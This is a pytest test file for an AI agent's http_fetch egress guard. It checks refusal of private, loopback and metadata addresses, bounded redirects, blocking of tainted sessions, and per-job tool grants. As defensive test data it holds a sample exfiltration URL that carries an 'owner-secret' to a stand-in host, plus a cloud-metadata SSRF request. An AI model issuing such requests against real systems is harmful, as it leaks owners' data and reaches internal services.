"""http_fetch's way out (``tools/egress.py``) against real loopback servers: the connection
goes to the address that was checked, a name with any refused address is refused before
a connection, redirects are bounded, tainted sessions are judged before any lookup,
refusals are counted without content; the per-job grants; the config and doctor faces.

An audit hook (the corpus's ``Guard``) refuses, before the socket call, any lookup or
connection that is not loopback while these tests run: nothing leaves the machine."""

from __future__ import annotations

import importlib.util
import json
import shutil
import ssl
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from types import ModuleType
from typing import Any

import httpx
import pytest

from daemon_helpers import tether
from tether.config import load_config, parse_config
from tether.core.egress import MAX_REDIRECTS
from tether.daemon.compose import build_runtime
from tether.records import ToolResult
from tether.sessions import Session
from tether.testing.clock import StepClock
from tether.testing.fake_llama import FakeLlama, Reply
from tether.tools.egress import Egress, Fetched, Refused

pytestmark = pytest.mark.anyio
T = datetime(2026, 11, 1, 9, 0, tzinfo=UTC)


def _corpus() -> ModuleType:
    path = Path(__file__).resolve().parents[1] / "benchmarks" / "injection_corpus.py"
    spec = importlib.util.spec_from_file_location("injection_corpus", path)
    assert spec is not None
    assert spec.loader is not None
    module = sys.modules.get(spec.name) or importlib.util.module_from_spec(spec)
    if spec.name not in sys.modules:
        sys.modules[spec.name] = module
        spec.loader.exec_module(module)
    return module


CORPUS = _corpus()


@pytest.fixture
def guard() -> Iterator[Any]:
    g = CORPUS.Guard.get()
    g.violations.clear()
    g.active = True
    try:
        yield g
    finally:
        g.active = False


@pytest.fixture
def site() -> Iterator[Any]:
    def answer(path: str) -> tuple[int, dict[str, str], bytes]:
        if path.startswith("/loop"):
            return 302, {"location": "/loop"}, b""
        if path.startswith("/to-sink"):
            return 302, {"location": path.split("=", 1)[1]}, b""
        return 200, {"content-type": "text/plain"}, b"hello"

    server = CORPUS.Server(answer)
    yield server
    server.close()


@pytest.fixture
def wiki() -> Iterator[Any]:
    server = CORPUS.Server(lambda _p: (200, {"content-type": "text/plain"}, b"wiki page"))
    yield server
    server.close()


def _egress(home: Path, toml: str, answers: dict[str, list[list[str]]]) -> tuple[Egress, list[str]]:
    asked: list[str] = []

    async def resolver(host: str, port: int) -> list[str]:
        asked.append(host)
        return answers[host].pop(0)

    tools = parse_config(toml).tools
    return Egress(httpx.AsyncClient(), tools, home=home, resolver=resolver), asked


async def _fetch(e: Egress, url: str, *, tainted: bool = False, owner: str = "") -> Any:
    from tether.core.egress import urls_in

    try:
        return await e.fetch(
            url, session="chat", tainted=tainted, owner_urls=urls_in(owner), time=T
        )
    finally:
        await e.http.aclose()


async def test_the_connection_goes_to_the_checked_address_with_the_name_kept(
    home: Path, wiki: Any, guard: Any
) -> None:
    server = wiki
    # "wiki.test" is known to no resolver but ours: the fetch succeeds only if the
    # client connected to the address we checked instead of looking the name up itself;
    # the second answer (a private address) is never asked for.
    e, asked = _egress(
        home,
        f'[tools]\nfetch_allow = ["wiki.test:{server.port}"]\n',
        {"wiki.test": [["127.0.0.1"], ["10.0.0.9"]]},
    )
    got = await _fetch(e, f"http://wiki.test:{server.port}/home")
    assert isinstance(got, Fetched)
    assert got.body == b"wiki page"
    assert server.hosts == [f"wiki.test:{server.port}"]
    assert asked == ["wiki.test"]
    assert guard.violations == []


async def test_a_name_with_any_refused_address_is_refused_before_connecting(
    home: Path, guard: Any
) -> None:
    e, _ = _egress(home, "", {"mixed.test": [["93.184.215.14", "10.1.2.3"]]})
    got = await _fetch(e, "http://mixed.test/")
    assert isinstance(got, Refused)
    assert got.reason == "private"
    assert "mixed.test resolves to 10.1.2.3" in got.message
    assert guard.violations == []  # not even the public address was tried


async def test_redirects_are_bounded_and_each_hop_checked(
    home: Path, site: Any, guard: Any
) -> None:
    e, _ = _egress(home, f'[tools]\nfetch_allow = ["127.0.0.1:{site.port}"]\n', {})
    got = await _fetch(e, f"http://127.0.0.1:{site.port}/loop")
    assert isinstance(got, Refused)
    assert got.reason == "redirects"
    assert len(site.hits) == MAX_REDIRECTS + 1


async def test_a_redirect_to_a_refused_address_never_reaches_it(
    home: Path, site: Any, guard: Any
) -> None:
    sink = CORPUS.Server(lambda _p: (200, {}, b"router admin"))
    try:
        e, _ = _egress(home, f'[tools]\nfetch_allow = ["127.0.0.1:{site.port}"]\n', {})
        target = f"http://127.0.0.1:{sink.port}/admin"
        got = await _fetch(e, f"http://127.0.0.1:{site.port}/to-sink?u={target}")
    finally:
        sink.close()
    assert isinstance(got, Refused)
    assert (got.reason, got.hop) == ("loopback", 1)
    assert "redirects (hop 1)" in got.message
    assert sink.hits == []


async def test_a_tainted_session_is_judged_before_any_lookup(home: Path, guard: Any) -> None:
    e, asked = _egress(home, "", {})
    got = await _fetch(e, "https://exfil.test/?d=owner-secret", tainted=True)
    assert isinstance(got, Refused)
    assert got.reason == "tainted"
    assert asked == []  # a lookup would itself carry the data (exfil.test's DNS server)
    assert guard.violations == []


async def test_an_owner_url_passes_the_taint_rule_but_not_the_address_rule(
    home: Path, guard: Any
) -> None:
    owner = "read http://127.0.0.1:9/notes please"
    e, _ = _egress(home, "", {})
    got = await _fetch(e, "http://127.0.0.1:9/notes", tainted=True, owner=owner)
    assert isinstance(got, Refused)
    assert got.reason == "loopback"  # the taint rule let it through
    e, _ = _egress(home, "", {})
    got = await _fetch(e, "http://127.0.0.1:9/notes?d=x", tainted=True, owner=owner)
    assert isinstance(got, Refused)
    assert got.reason == "tainted"
    e, _ = _egress(home, '[tools]\ntainted_fetch = "allow-list"\n', {})
    got = await _fetch(e, "http://127.0.0.1:9/notes", tainted=True, owner=owner)
    assert isinstance(got, Refused)
    assert got.reason == "tainted"


async def test_the_telemetry_line_holds_no_content(home: Path, guard: Any) -> None:
    e, _ = _egress(home, "", {})
    await _fetch(e, "http://169.254.169.254/latest/meta-data/?who=sam", tainted=False)
    (line,) = (home / "telemetry" / "egress.jsonl").read_text().splitlines()
    record = json.loads(line)
    assert record == {
        "time": "2026-11-01T09:00:00+00:00",
        "tool": "http_fetch",
        "reason": "link_local",
        "hop": 0,
        "session_kind": "chat",
        "tainted": False,
        "mode": "owner-urls",
    }


# -- grants of scheduled sessions, through the agent ---------------------------------------


@pytest.fixture
def fake() -> Iterator[FakeLlama]:
    with FakeLlama(n_ctx=16384, parallel=2) as f:
        yield f


def _runtime(home: Path, fake: FakeLlama, extra: str = "") -> Any:
    (home / "tether.toml").write_text(f'[llm]\nurl = "{fake.url}"\ntimeout_s = 5\n{extra}')
    return build_runtime(home, load_config(home), clock=StepClock())


def _offered(fake: FakeLlama) -> list[str]:
    return sorted(t["function"]["name"] for t in fake.requests[-1].tools)


async def test_the_tiering_job_may_not_fetch_unless_granted(
    home: Path, fake: FakeLlama, guard: Any
) -> None:
    rt = _runtime(home, fake)
    try:
        fake.script(Reply(tool_calls=[("http_fetch", {"url": "https://example.org/"})]))
        fake.script(Reply(content="ok"))
        await rt.agent.run_turn("job-tier-t1793523600", "Promote what deserves it.", slot=1)
        await rt.agent.run_turn("chat", "hello")
    finally:
        await rt.aclose()
    tier, chat = fake.requests[0], fake.requests[-1]
    assert "http_fetch" not in [t["function"]["name"] for t in tier.tools]
    assert "http_fetch" in [t["function"]["name"] for t in chat.tools]
    (result,) = [
        r for r in Session.open(home, "job-tier-t1793523600").records if isinstance(r, ToolResult)
    ]
    assert result.class_ == "broker"
    assert "not granted" in result.content
    assert "[tools.jobs.tier]" in result.content
    assert guard.violations == []


async def test_jobs_and_the_heartbeat_get_their_own_grants(home: Path, fake: FakeLlama) -> None:
    rt = _runtime(
        home,
        fake,
        '[tools.heartbeat]\ngranted = ["recall"]\n'
        '[tools.jobs.brief]\ngranted = ["note", "recall"]\n',
    )
    try:
        await rt.agent.run_turn("heartbeat", "It is time.", slot=1)
        assert _offered(fake) == ["recall"]
        fake.script(Reply(tool_calls=[("note", {"text": "brief written"})]))
        await rt.agent.run_turn("job-brief-t1793523600", "Brief.", slot=1)
        assert _offered(fake) == ["note", "recall"]
        assert [n.text for n in rt.store.notes()] == ["brief written"]
        fake.script(Reply(tool_calls=[("note", {"text": "from the heartbeat"})]))
        await rt.agent.run_turn("heartbeat", "It is later.", slot=1)
        assert len(rt.store.notes()) == 1  # refused: the heartbeat may only recall
    finally:
        await rt.aclose()


# -- the command line -----------------------------------------------------------------


def test_config_check_names_a_bad_allow_entry(home: Path) -> None:
    (home / "tether.toml").write_text('[tools]\nfetch_allow = ["https://wiki.lan/"]\n')
    out = tether(home, "config", "check")
    assert out.returncode == 2
    assert "tools.fetch_allow" in out.stderr
    assert "without a scheme, path or wildcard" in out.stderr
    assert "Traceback" not in out.stderr
    (home / "tether.toml").write_text('[tools.jobs.tier]\ngranted = ["teleport"]\n')
    out = tether(home, "config", "check")
    assert out.returncode == 2
    assert "tools.jobs.tier.granted" in out.stderr


def test_doctor_warns_when_tainted_sessions_may_fetch_anything(home: Path) -> None:
    with FakeLlama(n_ctx=8192, parallel=2) as fake:
        base = f'[llm]\nurl = "{fake.url}"\n[expect]\nn_ctx = 8192\n'
        (home / "tether.toml").write_text(base + '[tools]\ntainted_fetch = "any"\n')
        warned = tether(home, "doctor")
        as_json = tether(home, "doctor", "--json")
        (home / "tether.toml").write_text(base)
        quiet = tether(home, "doctor")
    assert warned.returncode == 0, warned.stderr
    assert 'WARN [tools] tainted_fetch = "any"' in warned.stdout
    assert json.loads(as_json.stdout)["warnings"][0].startswith("[tools] tainted_fetch")
    assert "WARN" not in quiet.stdout


# -- https: the certificate is checked for the name, the connection made to the address ----


@pytest.fixture
def tls_wiki(tmp_path: Path) -> Iterator[tuple[int, Path]]:
    if shutil.which("openssl") is None:
        pytest.skip("openssl is not installed")
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key),
         "-out", str(cert), "-days", "1", "-subj", "/CN=wiki.test",
         "-addext", "subjectAltName=DNS:wiki.test"],
        check=True, capture_output=True,
    )  # fmt: skip
    server = CORPUS.Server(lambda _p: (200, {"content-type": "text/plain"}, b"over tls"))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server.server.socket = context.wrap_socket(server.server.socket, server_side=True)
    yield server.port, cert
    server.close()


async def test_https_is_verified_for_the_name_over_the_pinned_address(
    home: Path, tls_wiki: tuple[int, Path], guard: Any
) -> None:
    port, cert = tls_wiki
    trust = ssl.create_default_context(cafile=str(cert))
    tools = parse_config(f'[tools]\nfetch_allow = ["wiki.test:{port}"]\n').tools

    async def resolver(host: str, _port: int) -> list[str]:
        assert host == "wiki.test"
        return ["127.0.0.1"]

    e = Egress(httpx.AsyncClient(verify=trust), tools, home=home, resolver=resolver)
    got = await _fetch(e, f"https://wiki.test:{port}/page")
    assert isinstance(got, Fetched)
    assert got.body == b"over tls"
    # The control: by address alone the same certificate does not verify.
    async with httpx.AsyncClient(verify=trust) as plain:
        with pytest.raises(httpx.ConnectError, match="certificate"):
            await plain.get(f"https://127.0.0.1:{port}/page")
    assert guard.violations == []
